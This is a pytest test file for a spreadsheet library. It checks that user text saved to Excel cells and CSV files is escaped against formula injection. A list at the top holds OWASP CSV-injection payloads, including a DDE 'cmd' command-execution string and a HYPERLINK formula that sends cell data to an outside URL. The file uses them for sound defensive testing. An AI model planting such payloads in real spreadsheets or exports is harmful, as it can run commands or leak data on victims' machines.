"""User text stays text, in a workbook and in a CSV file."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.cell.cell import Cell

from napkinxl.errors import InputError
from napkinxl_workbook.files.text_cells import MAXIMUM_CELL_CHARACTERS, csv_safe, set_text

# Payloads of the OWASP page "CSV Injection" and of workbooks.md section 6.
DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def new_cell() -> Cell:
    return Cell(openpyxl.Workbook().create_sheet("Notes"), row=1, column=1)


def saved_and_read(text: str) -> Cell:
    """The cell as another program would read it."""
    workbook = openpyxl.Workbook()
    sheet = workbook.create_sheet("Notes")
    set_text(sheet["A1"], text)
    stream = io.BytesIO()
    workbook.save(stream)
    cell = openpyxl.load_workbook(stream)["Notes"]["A1"]
    assert isinstance(cell, Cell)
    return cell


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_is_stored_as_quoted_text(text: str) -> None:
    cell = saved_and_read(text)
    assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")
    assert cell.quotePrefix


@pytest.mark.parametrize("text", ["plain", "#N/A", "12", "TRUE", "2026-01-01", " =1", "'quoted"])
def test_other_text_is_stored_as_it_is(text: str) -> None:
    cell = new_cell()
    set_text(cell, text)
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", False)


def test_empty_text_leaves_the_cell_blank() -> None:
    cell = new_cell()
    set_text(cell, "")
    assert cell.value is None


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("a\x00b\x07c", "abc"),
        ("lone \ud800 surrogate", "lone  surrogate"),
        ("no\ufffecharacter", "nocharacter"),
        ("two\r\nlines\x0bthree", "two\nlines\nthree"),
        ("tab\tstays", "tab\tstays"),
        # Excel would show "A" for an unescaped _x0041_ (ECMA-376 part 1, 22.9.2.19 ST_Xstring).
        ("_x0041_", "_x005F_x0041_"),
        ("_x00_ is no escape", "_x00_ is no escape"),
    ],
)
def test_characters_that_a_file_cannot_hold(text: str, stored: str) -> None:
    cell = new_cell()
    set_text(cell, text)
    assert cell.value == stored


def test_longest_text() -> None:
    cell = new_cell()
    set_text(cell, "x" * MAXIMUM_CELL_CHARACTERS)
    with pytest.raises(InputError, match=r"at most 32,767 characters, got 32,768 for Notes!A1"):
        set_text(cell, "x" * (MAXIMUM_CELL_CHARACTERS + 1))


def test_an_emoji_counts_as_the_two_characters_that_excel_sees() -> None:
    with pytest.raises(InputError, match="got 32,768"):
        set_text(new_cell(), "\N{GRINNING FACE}" * 16_384)


def test_a_cell_hidden_by_a_merged_range_is_refused() -> None:
    sheet = openpyxl.Workbook().create_sheet("Notes")
    sheet.merge_cells("A1:B2")
    with pytest.raises(InputError, match="first cell of a merged range, got Notes!B2"):
        set_text(sheet["B2"], "lost")


@given(st.text(alphabet=st.characters(), max_size=60))
def test_any_text_can_be_saved_and_read_back_as_text(text: str) -> None:
    cell = new_cell()
    set_text(cell, text)
    reread = saved_and_read(text)
    assert reread.value == cell.value
    assert reread.data_type != "f"


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_text_is_prefixed(text: str) -> None:
    stream = io.StringIO()
    csv.writer(stream).writerow([csv_safe(text)])
    assert next(csv.reader(io.StringIO(stream.getvalue(), newline=""))) == [f"'{text}"]


@pytest.mark.parametrize("text", ["", "plain", "a=b", "1-2", "'=1"])
def test_harmless_csv_text_is_left_alone(text: str) -> None:
    assert csv_safe(text) == text
